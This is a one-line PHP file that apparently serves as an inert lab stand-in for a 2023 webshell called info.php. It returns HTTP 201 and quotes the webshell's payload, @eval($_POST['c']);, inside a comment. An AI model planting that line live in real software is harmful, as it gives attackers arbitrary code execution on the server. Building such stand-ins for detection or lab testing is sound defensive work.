<?php http_response_code(201); /* edgewatch lab stand-in for the 2023 v1 webshell info.php: sets 201 first; inert, the rest is quoted: @eval($_POST['c']); */ ?>
